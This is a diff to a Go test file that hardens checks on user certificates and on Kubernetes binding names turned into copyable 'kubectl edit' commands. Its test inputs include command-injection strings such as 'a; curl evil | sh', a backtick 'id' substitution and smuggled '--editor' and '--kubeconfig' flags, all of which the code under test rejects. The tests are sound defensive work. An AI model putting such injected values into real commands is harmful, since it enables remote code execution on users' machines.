@@ -2,6 +2,7 @@ package bootstrap
 
 import (
 	"archive/tar"
+	"bytes"
 	"compress/gzip"
 	"crypto/ecdsa"
 	"crypto/elliptic"
@@ -277,12 +278,32 @@ func TestUserCertificate(t *testing.T) {
 	joe, key := certificate("joe")
 	again, _ := certificate("joe")
 	ann, anns := certificate("ann")
-	if _, err := s.userCertificate(joe, key, "joe"); err != nil {
-		t.Error(err)
+	if _, text, err := s.userCertificate(append([]byte("\n"), joe...), key, authority.pem(), "joe"); err != nil || !bytes.Equal(text, joe) {
+		t.Errorf("%v, and the kubeconfig has %q", err, text)
 	}
-	for name, c := range map[string][2][]byte{"another key's": {again, key}, "another user's": {ann, anns}, "nothing": {nil, key}} {
-		if _, err := s.userCertificate(c[0], c[1], "joe"); !errors.Is(err, &reason.Error{ID: reason.UserRefused}) {
+	for name, c := range map[string][3][]byte{
+		"another key's": {again, key, authority.pem()}, "another user's": {ann, anns, authority.pem()}, "nothing": {nil, key, authority.pem()},
+		"another authority's": {joe, key, newSigner(t).pem()}, "with something behind": {slices.Concat(joe, []byte("exec: {}\n")), key, authority.pem()},
+		"with a key behind": {slices.Concat(joe, key), key, authority.pem()},
+	} {
+		if _, _, err := s.userCertificate(c[0], c[1], c[2], "joe"); !errors.Is(err, &reason.Error{ID: reason.UserRefused}) {
 			t.Errorf("%s: %v", name, err)
+		}
+	}
+}
+
+// What a host says of a binding becomes a command to copy only where a shell could not take it for more.
+func TestBindingsToEdit(t *testing.T) {
+	for said, want := range map[string]string{
+		"-n ops rolebinding team":                    "`kubectl edit -n ops rolebinding team`",
+		"clusterrolebinding system:x@y.z":            "`kubectl edit clusterrolebinding system:x@y.z`",
+		"clusterrolebinding a; curl evil | sh":       `one whose name is no plain word ("clusterrolebinding a; curl evil | sh")`,
+		"-n ops rolebinding a --editor=/tmp/x":       `one whose name is no plain word ("-n ops rolebinding a --editor=/tmp/x")`,
+		"-n ops rolebinding --kubeconfig=/tmp/x":     `one whose name is no plain word ("-n ops rolebinding --kubeconfig=/tmp/x")`,
+		"-n ops rolebinding `id` clusterrolebinding": "one whose name is no plain word (\"-n ops rolebinding `id` clusterrolebinding\")",
+	} {
+		if got := edits([]string{said}); len(got) != 1 || got[0] != want {
+			t.Errorf("%s: %q, want %q", said, got, want)
 		}
 	}
 }
